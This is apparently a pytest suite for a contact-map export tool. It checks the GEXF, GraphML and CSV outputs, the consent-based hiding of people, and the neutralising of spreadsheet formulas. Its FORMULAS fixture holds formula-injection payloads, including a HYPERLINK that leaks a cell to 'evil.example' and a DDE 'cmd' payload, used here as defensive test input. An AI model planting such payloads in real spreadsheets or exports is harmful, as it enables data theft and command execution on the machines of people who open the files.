"""Exports of the contact map (networkx, GEXF, GraphML, CSV): they open in the tools they are
for, they keep what consent shows and nothing it hides, and no cell runs as a formula."""

from __future__ import annotations

import csv
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import networkx as nx
import numpy as np
import pytest
from sqlalchemy import update

from tejido.contactmap.export import to_networkx, write_csv, write_gexf, write_graphml
from tejido.contactmap.lookup import org_labels, person_labels
from tejido.contactmap.view import Viewer
from tejido.demo.build import build_demo
from tejido.errors import BadInputError, NotFoundError
from tejido.snapshot.model import LEVEL_EXISTENCE, LEVEL_NAMED, Snapshot
from tejido.store.models import ConsentLevel, Employee, Organisation, Person, table_of
from tejido.workspace import Workspace

SEED = 0  # of the hidden ids: every export of one test run numbers them alike
FORMULAS = {
    "position": ['=HYPERLINK("https://evil.example/?leak="&A1,"CV")', "+1 555 0100", "@SUM(A1:A9)"],
    "display_name": ["-2+3+cmd|' /C calc'!A0"],
}
SECRET_NAME = "Zoraida Escondida Quintanilla"
SECRET_POSITION = "Jefa de Secretos Sigilosos"
SECRET_ORG = "Sigilo Zeta Consultores"


@dataclass
class Demo:
    """The demo company after the test's changes, and who was changed how."""

    ws: Workspace
    private: int  # an employee who made their network private
    quiet: int  # an employee who shares their ties as existence-only
    secret: int  # a contact known only through existence-only ties, one of them quiet's
    secret_org: int  # the secret contact's organisation, nobody else's
    secrets: list[str]  # what must never be written about the secret contact
    formulas: dict[int, tuple[str, str]] = field(default_factory=dict)  # id -> (column, text)


@dataclass
class Files:
    """One analyst export in every format."""

    graph: Any
    gexf: Path
    graphml: Path
    folder: Path
    zip: Path

    def texts(self) -> dict[str, str]:
        out = {
            "gexf": self.gexf.read_text(encoding="utf-8"),
            "graphml": self.graphml.read_text(encoding="utf-8"),
        }
        for name in ("nodes.csv", "edges.csv"):
            out[name] = (self.folder / name).read_text(encoding="utf-8")
        with zipfile.ZipFile(self.zip) as zf:
            for name in zf.namelist():
                out[f"zip:{name}"] = zf.read(name).decode("utf-8")
        return out


def _degree(snap: Snapshot) -> np.ndarray[Any, Any]:
    return np.diff(np.asarray(snap.indptr))


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Demo]:
    ws = Workspace(tmp_path_factory.mktemp("export") / "ws")
    build_demo(ws, employees=30, seed=3, mean_contacts=60)
    E, P, O = table_of(Employee), table_of(Person), table_of(Organisation)

    snap = ws.contact_map.snapshot()
    named = np.flatnonzero(np.asarray(snap.consent) == LEVEL_NAMED)
    busiest = named[np.argsort(-_degree(snap)[named], kind="stable")]
    # The quiet employee knows the private one: their tie must vanish from quiet's export.
    colleagues = set(snap.neighbours(int(busiest[0]))[0].tolist())
    private = int(snap.person_id[busiest[0]])
    quiet = next(int(snap.person_id[i]) for i in busiest[1:] if int(i) in colleagues)
    with ws.store.write() as conn:
        for pid, consent in ((private, ConsentLevel.PRIVATE), (quiet, ConsentLevel.EXISTENCE_ONLY)):
            conn.execute(update(E).where(E.c.person_id == pid).values(consent=consent))

    snap = ws.contact_map.snapshot()
    level = np.asarray(snap.level)
    employee = np.asarray(snap.consent) >= 0
    n = snap.n_nodes
    lowest, highest = np.full(n, 9), np.full(n, -1)
    for end in (snap.u, snap.v):
        np.minimum.at(lowest, end, np.where(level >= LEVEL_EXISTENCE, level, 9))
        np.maximum.at(highest, end, level)
    me = snap.node(quiet)
    nbrs, _ = snap.neighbours(me)
    only = ~employee & (lowest == LEVEL_EXISTENCE) & (highest == LEVEL_EXISTENCE)
    candidates = [int(c) for c in nbrs if only[c]]
    assert candidates, "the demo has no contact known only through existence-only ties"
    secret = int(snap.person_id[candidates[0]])
    # Contacts the analyst sees named (a named tie), to carry the formula-like text.
    shown = np.zeros(n, dtype=bool)
    shown[snap.u[level == LEVEL_NAMED]] = True
    shown[snap.v[level == LEVEL_NAMED]] = True
    loud = [int(snap.person_id[i]) for i in np.flatnonzero(shown & ~employee)[:4]]

    with ws.store.write() as conn:
        new_org = O.insert().values(name=SECRET_ORG, key="sigilo zeta").returning(O.c.id)
        org_id = int(conn.execute(new_org).scalar_one())
        conn.execute(
            update(P)
            .where(P.c.id == secret)
            .values(display_name=SECRET_NAME, position=SECRET_POSITION, organisation_id=org_id)
        )
        formulas: dict[int, tuple[str, str]] = {}
        cells = [(c, text) for c, texts in FORMULAS.items() for text in texts]
        for pid, (column, text) in zip(loud, cells, strict=True):
            conn.execute(update(P).where(P.c.id == pid).values({column: text}))
            formulas[pid] = (column, text)
        label = person_labels(conn, [secret])[secret]
    secrets = [SECRET_NAME, SECRET_POSITION, SECRET_ORG]
    secrets += [s for s in (label.linkedin, label.email) if s]
    yield Demo(ws, private, quiet, secret, org_id, secrets, formulas)
    ws.close()


@pytest.fixture(scope="module")
def files(demo: Demo, tmp_path_factory: pytest.TempPathFactory) -> Files:
    out = tmp_path_factory.mktemp("files")
    service = demo.ws.contact_map
    result = Files(
        to_networkx(service, seed=SEED),
        out / "map.gexf",
        out / "map.graphml",
        out / "csv",
        out / "map.zip",
    )
    write_gexf(service, result.gexf, seed=SEED)
    write_graphml(service, result.graphml, seed=SEED)
    write_csv(service, result.folder, seed=SEED)
    write_csv(service, result.zip, seed=SEED)
    return result


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def _graphs(files: Files) -> dict[str, Any]:
    """Every export read back as a graph."""
    from_csv = nx.Graph()
    from_csv.add_nodes_from(r["id"] for r in _csv_rows(files.folder / "nodes.csv"))
    from_csv.add_edges_from(
        (r["source"], r["target"]) for r in _csv_rows(files.folder / "edges.csv")
    )
    return {
        "networkx": files.graph,
        "gexf": nx.read_gexf(files.gexf),
        "graphml": nx.read_graphml(files.graphml),
        "csv": from_csv,
    }


# -- formats ----------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["gexf", "graphml"])
def test_xml_exports_open_with_networkx_and_keep_attributes(files: Files, kind: str) -> None:
    graph = files.graph
    read = nx.read_gexf(files.gexf) if kind == "gexf" else nx.read_graphml(files.graphml)
    assert set(read.nodes) == set(graph.nodes)
    assert read.number_of_edges() == graph.number_of_edges() > 0
    named = [n for n, d in graph.nodes(data=True) if not d["hidden"]]
    assert any(graph.nodes[n].get("position") for n in named)
    for node in named:
        for key in ("label", "position", "organisation", "is_employee"):
            assert read.nodes[node].get(key) == graph.nodes[node].get(key), (node, key)
    a, b, data = next((a, b, d) for a, b, d in graph.edges(data=True) if "strength" in d)
    assert read.edges[a, b]["strength"] == pytest.approx(data["strength"])
    assert read.edges[a, b]["level"] == data["level"]


def test_attribute_values_are_plain_and_never_none(files: Files) -> None:
    plain = (str, int, float, bool)
    for _, data in files.graph.nodes(data=True):
        assert all(type(v) in plain for v in data.values()), data
    for _, _, data in files.graph.edges(data=True):
        assert all(type(v) in plain for v in data.values()), data


def test_csv_has_the_same_graph(files: Files) -> None:
    from_csv = _graphs(files)["csv"]
    assert set(from_csv.nodes) == set(files.graph.nodes)
    assert {frozenset(e) for e in from_csv.edges} == {frozenset(e) for e in files.graph.edges}


def test_zip_holds_the_same_csv_files(files: Files) -> None:
    with zipfile.ZipFile(files.zip) as zf:
        assert sorted(zf.namelist()) == ["edges.csv", "nodes.csv"]
        for name in zf.namelist():
            assert zf.read(name) == (files.folder / name).read_bytes()


def test_csv_neutralises_formulas_in_text_only(demo: Demo, files: Files) -> None:
    assert len(demo.formulas) == 4
    nodes = {r["id"]: r for r in _csv_rows(files.folder / "nodes.csv")}
    for pid, (column, text) in demo.formulas.items():
        cell = nodes[f"p{pid}"]["label" if column == "display_name" else column]
        assert cell == "'" + text
    for row in _csv_rows(files.folder / "edges.csv"):
        if row["strength"]:
            assert float(row["strength"]) >= 0  # numbers stay numbers
    for row in nodes.values():
        assert row["hidden"] in ("true", "false")
        assert not row["label"].startswith(("=", "+", "-", "@", "\t", "\r"))


# -- consent ----------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["networkx", "gexf", "graphml", "csv"])
def test_private_employee_is_in_no_export(demo: Demo, files: Files, kind: str) -> None:
    graph = _graphs(files)[kind]
    assert f"p{demo.private}" not in graph
    assert not [e for e in graph.edges if f"p{demo.private}" in e]


def test_private_employee_is_named_in_no_file(demo: Demo, files: Files) -> None:
    with demo.ws.store.read() as conn:
        name = person_labels(conn, [demo.private])[demo.private].name
    assert not [kind for kind, text in files.texts().items() if name in text]


def test_no_private_tie_is_exported(demo: Demo, files: Files) -> None:
    snap = demo.ws.contact_map.snapshot()
    named = {n for n, d in files.graph.nodes(data=True) if not d["hidden"]}
    checked = 0
    for a, b, data in files.graph.edges(data=True):
        if a in named and b in named:
            e = snap.edge_between(snap.node(int(a[1:])), snap.node(int(b[1:])))
            assert e >= 0 and int(snap.level[e]) >= LEVEL_EXISTENCE
            if "strength" in data:
                assert int(snap.level[e]) == LEVEL_NAMED and data["level"] == "named"
            checked += 1
    assert checked > 0
    # Every visible tie but the private employee's is an edge, once.
    cm = demo.ws.map()
    assert files.graph.number_of_edges() == int(cm.visible.sum())


def test_existence_only_contact_is_hidden_everywhere(demo: Demo, files: Files) -> None:
    for name, text in files.texts().items():
        leaked = [s for s in demo.secrets if s in text]
        assert not leaked, f"{name} shows {leaked}"
    for name, graph in _graphs(files).items():
        assert f"p{demo.secret}" not in graph, name
    graph = files.graph
    quiet = f"p{demo.quiet}"
    ties = list(graph.edges(quiet, data=True))
    assert ties and all(d == {"level": "existence_only"} for _, _, d in ties)
    hidden = [b for _, b, _ in ties if graph.nodes[b]["hidden"]]
    assert hidden, "the existence-only contacts must still be there, hidden"
    for node in hidden:
        assert graph.nodes[node] == {"label": "hidden", "hidden": True, "is_employee": False}
        assert node.startswith("h")


def test_a_named_contact_is_never_at_the_end_of_an_existence_only_tie(
    demo: Demo, files: Files
) -> None:
    # Such a contact exists in the demo: named through one tie, existence-only through another.
    snap = demo.ws.contact_map.snapshot()
    level = np.asarray(snap.level)
    both = np.zeros((snap.n_nodes, 3), dtype=bool)
    for end in (snap.u, snap.v):
        both[end, level] = True
    mixed = both[:, LEVEL_NAMED] & both[:, LEVEL_EXISTENCE] & (np.asarray(snap.consent) < 0)
    assert mixed.any()
    graph = files.graph
    for a, b, data in graph.edges(data=True):
        for node in (a, b):
            person = graph.nodes[node]
            if not person["hidden"] and not person["is_employee"]:
                assert "strength" in data, (a, b, data)


def test_rows_follow_the_ids_not_the_store(files: Files) -> None:
    """Named people by person id, then hidden ones by their number; edges in that order:
    a row's place says nothing about a hidden person's store id."""
    ids = [r["id"] for r in _csv_rows(files.folder / "nodes.csv")]
    named = [i for i in ids if i.startswith("p")]
    assert ids == named + [f"h{k}" for k in range(len(ids) - len(named))]
    assert [int(i[1:]) for i in named] == sorted(int(i[1:]) for i in named)
    place = {node: k for k, node in enumerate(ids)}
    rows = [(place[r["source"]], place[r["target"]]) for r in _csv_rows(files.folder / "edges.csv")]
    assert all(a < b for a, b in rows) and rows == sorted(rows)


def test_hidden_numbering_depends_only_on_the_seed(demo: Demo, files: Files) -> None:
    other = to_networkx(demo.ws.contact_map, seed=SEED + 1)
    named = sorted(n for n in files.graph if n.startswith("p"))
    assert sorted(n for n in other if n.startswith("p")) == named
    hidden = sorted(n for n in files.graph if n.startswith("h"))
    assert sorted(n for n in other if n.startswith("h")) == hidden
    assert hidden == sorted(f"h{k}" for k in range(len(hidden)))

    def degrees(graph: Any) -> list[tuple[str, ...]]:
        return sorted(tuple(sorted(m for m in graph[h])) for h in hidden)

    assert degrees(other) == degrees(files.graph)
    assert [list(other[h]) for h in hidden] != [list(files.graph[h]) for h in hidden]


def test_employee_sees_their_own_ties_detailed(demo: Demo) -> None:
    graph = to_networkx(demo.ws.contact_map, Viewer(role="employee", person_id=demo.quiet))
    me = f"p{demo.quiet}"
    ties = list(graph.edges(me, data=True))
    assert ties and all("strength" in d and "decaying" in d for _, _, d in ties)
    assert {d["level"] for _, _, d in ties} == {"existence_only"}
    secret = graph.nodes[f"p{demo.secret}"]
    assert secret["label"] == SECRET_NAME and secret["position"] == SECRET_POSITION
    assert secret["organisation"] == SECRET_ORG and not secret["hidden"]
    others = [d for a, b, d in graph.edges(data=True) if me not in (a, b)]
    assert others and all(d == {"level": "existence_only"} for d in others)
    # Their tie to the colleague who made their network private is not shown either.
    snap = demo.ws.contact_map.snapshot()
    assert snap.edge_between(snap.node(demo.quiet), snap.node(demo.private)) >= 0
    assert f"p{demo.private}" not in graph


def test_private_employee_sees_themself_and_their_ties(demo: Demo) -> None:
    viewer = Viewer(role="employee", person_id=demo.private)
    graph = to_networkx(demo.ws.contact_map, viewer)
    me = f"p{demo.private}"
    assert me in graph and graph.nodes[me]["is_employee"]
    ties = list(graph.edges(me, data=True))
    assert ties and all(d["level"] == "private" and "strength" in d for _, _, d in ties)


# -- filters ----------------------------------------------------------------------------


def test_min_strength_keeps_strong_detailed_ties(demo: Demo, files: Files) -> None:
    graph = to_networkx(demo.ws.contact_map, min_strength=0.3, seed=SEED)
    assert 0 < graph.number_of_edges() < files.graph.number_of_edges()
    assert all(d.get("strength", -1) >= 0.3 for _, _, d in graph.edges(data=True))
    assert all(graph.degree(n) > 0 for n in graph)


def test_org_filter_keeps_ties_into_that_organisation(demo: Demo) -> None:
    service = demo.ws.contact_map
    graph = to_networkx(service, org=demo.secret_org)
    snap = service.snapshot()
    _, eids = snap.neighbours(snap.node(demo.secret))
    assert graph.number_of_edges() == int(demo.ws.map().visible[eids].sum()) > 0
    for a, b in graph.edges:
        assert graph.nodes[a]["hidden"] or graph.nodes[b]["hidden"]
        assert graph.nodes[a]["is_employee"] or graph.nodes[b]["is_employee"]
    text_dir = demo.ws.path / "org-export"
    write_csv(service, text_dir, org=demo.secret_org)
    assert SECRET_NAME not in (text_dir / "nodes.csv").read_text(encoding="utf-8")


def test_org_filter_on_a_busy_organisation(demo: Demo) -> None:
    service = demo.ws.contact_map
    snap = service.snapshot()
    outside = np.asarray(snap.org)[np.asarray(snap.consent) < 0]
    busiest = int(np.bincount(outside[outside >= 0]).argmax())
    org_id = int(snap.org_id[busiest])
    graph = to_networkx(service, org=org_id)
    with demo.ws.store.read() as conn:
        name = org_labels(conn, [org_id])[org_id].name
    assert graph.number_of_edges() > 0
    for a, b in graph.edges:
        ends = (graph.nodes[a], graph.nodes[b])
        assert any(d["hidden"] or d.get("organisation") == name for d in ends)


@pytest.mark.parametrize(
    ("options", "error", "message"),
    [
        ({"min_strength": -0.1}, BadInputError, "'min_strength' parameter of to_networkx"),
        ({"min_strength": float("nan")}, BadInputError, "must be a number >= 0"),
        ({"org": "acme"}, BadInputError, "'org' parameter of to_networkx"),
        ({"org": 10**12}, NotFoundError, "organisation 1000000000000 is not in the contact map"),
    ],
)
def test_bad_filters_are_refused(
    demo: Demo, options: dict[str, Any], error: type[Exception], message: str
) -> None:
    with pytest.raises(error, match=message):
        to_networkx(demo.ws.contact_map, **options)
